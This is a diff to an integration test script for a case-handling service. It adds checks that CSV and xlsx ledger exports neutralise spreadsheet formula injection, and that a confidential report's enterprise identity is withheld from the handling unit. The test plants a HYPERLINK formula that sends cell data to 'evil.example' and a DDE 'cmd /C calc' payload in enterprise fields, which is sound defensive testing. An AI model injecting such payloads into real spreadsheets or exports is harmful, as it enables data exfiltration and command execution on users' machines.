@@ -8,10 +8,12 @@ import csv
 import io
 import json
 import os
+import random
 import subprocess
 import sys
 import urllib.error
 import urllib.request
+import uuid
 
 URL = os.environ["REP_URL"]
 DSN = os.environ["JIESU_PG_DSN"]
@@ -167,6 +169,38 @@ late_unit = next(u for u in units if u["profile"] == "late")
 s, d, _ = jcall("GET", f"/v1/reports/ledger?month={MONTH}&unit_id={late_unit['id']}&format=json", L)
 check("  … a late unit's ledger shows its supervision", s == 200 and any(r["supervision"] != "无" for r in d["rows"]), d.get("rows", [])[:2])
 
+# Formula injection (OWASP "CSV Injection"): names and summaries come from enterprises, and
+# intake takes any single line of text, so a name may start with '='. The CSV ledger must make
+# such a cell text (a leading '); the xlsx holds string cells and the value as it is.
+s, d, _ = jcall("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=json", C)
+r0, r1 = d["rows"][0], d["rows"][1]
+keep = sql(f"SELECT json_build_object('n', enterprise_name, 's', summary) FROM cases WHERE case_no = '{r0['case_no']}'")
+evil_name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+evil_summary = "+1+cmd|' /C calc'!A0 道路积水"
+sql(f"UPDATE cases SET enterprise_name = $q${evil_name}$q$, summary = $q${evil_summary}$q$, version = version + 1 "
+    f"WHERE case_no = '{r0['case_no']}'")  # the row as if registered so (every update moves the version)
+try:
+    s, b, _ = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=csv", C)
+    byno = {r[1]: r for r in csv.reader(io.StringIO(b.decode("utf-8-sig")))}
+    check("CSV ledger: a name starting with '=' and a summary with '+' are written as text (a leading ')",
+          s == 200 and byno[r0["case_no"]][2] == "'" + evil_name and byno[r0["case_no"]][4] == "'" + evil_summary,
+          byno.get(r0["case_no"], [])[:5])
+    check("  … a plain name and summary are unchanged", byno[r1["case_no"]][2] == r1["enterprise"]
+          and byno[r1["case_no"]][4] == r1["summary"], (byno.get(r1["case_no"], [])[:5], r1))
+    s, b, _ = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=xlsx", C)
+    try:
+        import openpyxl
+        ws = openpyxl.load_workbook(io.BytesIO(b)).worksheets[0]
+        cells = next(r for r in ws.iter_rows(min_row=2) if r[1].value == r0["case_no"])
+        check("  … the xlsx holds the name as it is, in a string cell (never a formula)",
+              cells[2].value == evil_name and cells[2].data_type == "s" and cells[4].value == evil_summary
+              and cells[4].data_type == "s", [(c.value, c.data_type) for c in cells[:5]])
+    except ImportError:
+        check("openpyxl is installed (python3-openpyxl)", False)
+finally:
+    sql(f"UPDATE cases SET enterprise_name = k->>'n', summary = k->>'s', version = version + 1 FROM (SELECT $k${keep}$k$::json AS k) x "
+        f"WHERE case_no = '{r0['case_no']}'")
+
 print("dossier:")
 tr = SIM["tracking"]
 closed = next(t for t in tr if t["state"] == "closed")
@@ -185,6 +219,69 @@ s, d, _ = jcall("GET", f"/v1/cases/{own['case_id']}/dossier", T["T_UNIT"])
 check("  … the unit that handled it may read it", s == 200, d)
 s, d, _ = jcall("GET", f"/v1/cases/{own['case_id']}/dossier", T["T_UNIT_OTHER"])
 check("  … another unit may not (404)", s == 404, d)
+
+# A confidential report (举报) an enterprise submitted with its own token, dispatched to a unit:
+# written as intake and the dispatcher write it (the case row, its history with the enterprise
+# principal as the actor of what it did). Principals of role enterprise are named after the
+# enterprise, so the unit's dossier must not carry the actor's name either (DOMAIN.md §8).
+ALPHA = "0123456789ABCDEFGHJKLMNPQRTUWXY"
+WEIGHTS = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]
+
+
+def credit_code(region):  # GB 32100-2015, each run its own enterprise
+    org = "".join(random.choice("0123456789") for _ in range(8))
+    c = 11 - sum(int(d) * w for d, w in zip(org, [3, 7, 9, 10, 5, 8, 4, 2])) % 11
+    body = "91" + region[:6] + org + ("X" if c == 10 else "0" if c == 11 else str(c))
+    t = sum(ALPHA.index(ch) * w for ch, w in zip(body, WEIGHTS))
+    return body + ALPHA[(31 - t % 31) % 31]
+
+
+u0 = units[0]
+rep_code = credit_code(u0["region"])
+rep_name = f"南宁保密举报测试企业{rep_code[-6:]}有限公司"
+ctl = os.path.join(os.environ["JIESU_BIN"], "jiesuctl")
+rep_pid = subprocess.run([ctl, "principal", "add", "--role", "enterprise", "--name", rep_name, "--credit-code", rep_code],
+                         capture_output=True, text=True, check=True).stdout.strip()
+rep_tok = subprocess.run([ctl, "token", "issue", "--principal", rep_pid], capture_output=True, text=True, check=True).stdout.strip()
+rep_id, rep_no = str(uuid.uuid4()), f"{u0['region']}-2026-{random.randint(9000000, 9999999)}"
+rep_at = "2026-09-15T10:00:00+08:00"  # before the month the measures check
+centre_pid = sql("SELECT id FROM principals WHERE role = 'centre' ORDER BY id DESC LIMIT 1")
+hist = [("case.received", None, "received", rep_pid,
+         {"case_no": rep_no, "region_code": u0["region"], "kind": "report", "channel": "web",
+          "enterprise": {"name": rep_name, "credit_code": rep_code}, "summary": "举报某单位工作人员索要好处费",
+          "confidential": True, "received_at": rep_at}),
+        ("case.accepted", "received", "accepted", centre_pid, {"complexity": "general", "matter_type": "作风问题"}),
+        ("case.dispatched", "accepted", "dispatched", centre_pid,
+         {"lead_unit_id": u0["id"], "co_handler_unit_ids": [], "tier": "county", "catalogue_version": 1,
+          "basis": "catalogue", "attempt": 1, "sign_by": "2026-09-16T23:59:59+08:00"}),
+        ("case.material_added", "dispatched", "dispatched", rep_pid,
+         {"material_id": str(uuid.uuid4()), "source": "enterprise", "attachment_ids": [], "description": "补充举报材料"})]
+stmts = [f"""INSERT INTO cases (id, case_no, tracking_code_hash, region_code, tier, state, version, kind, complexity, channel,
+    enterprise_name, credit_code, address, contact_name, contact_phone, summary, body, confidential, lead_unit_id,
+    received_at, created_at, submitted_by) VALUES ('{rep_id}', '{rep_no}', sha256('x'), '{u0['region']}', 3, 'dispatched',
+    {len(hist)}, 'report', 'general', 'web', '{rep_name}', '{rep_code}', '南宁市某路1号', '举报联系人', '13807700000',
+    '举报某单位工作人员索要好处费', '举报内容。', true, {u0['id']}, '{rep_at}', '{rep_at}', {rep_pid})""",
+         f"INSERT INTO case_units (case_id, unit_id, role) VALUES ('{rep_id}', {u0['id']}, 'lead')"]
+for v, (t, frm, to, actor, pay) in enumerate(hist, 1):
+    stmts.append(f"""INSERT INTO case_events (event_id, case_id, type, from_state, to_state, case_version, actor_principal_id,
+        occurred_at, payload) VALUES ('{uuid.uuid4()}', '{rep_id}', '{t}', {"NULL" if frm is None else repr(frm)}, '{to}', {v},
+        {actor}, '{rep_at}'::timestamptz + interval '{v} minutes', $j${json.dumps(pay, ensure_ascii=False)}$j$::jsonb)""")
+sql("BEGIN; " + "; ".join(stmts) + "; COMMIT;")
+check("a confidential report by an enterprise's own token is registered (its tracking by token works)",
+      jcall("GET", f"/v1/track/{rep_no}", rep_tok)[0] == 200)
+s, b, _ = call("GET", f"/v1/cases/{rep_id}/dossier", T["T_UNIT"])
+d = json.loads(b) if s == 200 else {}
+txt = b.decode()
+acts = [x["actor"] for x in d.get("documents", []) if x["actor"]["role"] == "enterprise"]
+check("  … the unit reported on reads its dossier: neither the enterprise's name nor its credit code anywhere",
+      s == 200 and rep_name not in txt and rep_code not in txt and json.dumps(rep_name)[1:-1] not in txt, txt[:600])
+check("  … the enterprise's own documents say only 'enterprise', the name withheld",
+      len(acts) == 2 and all(a["name"].startswith("保密件") for a in acts) and "withheld" in d["registration"]["enterprise"], acts)
+for who in ("T_CENTRE", "T_SUPERVISOR"):
+    s, d, _ = jcall("GET", f"/v1/cases/{rep_id}/dossier", T[who])
+    names = [x["actor"]["name"] for x in d.get("documents", []) if x["actor"]["role"] == "enterprise"]
+    check(f"  … {who[2:].lower()} of the region still sees the reporter (name, credit code, actor)",
+          s == 200 and d["registration"]["enterprise"].get("credit_code") == rep_code and names == [rep_name] * 2, d)
 
 print("tracking:")
 a = tr[0]
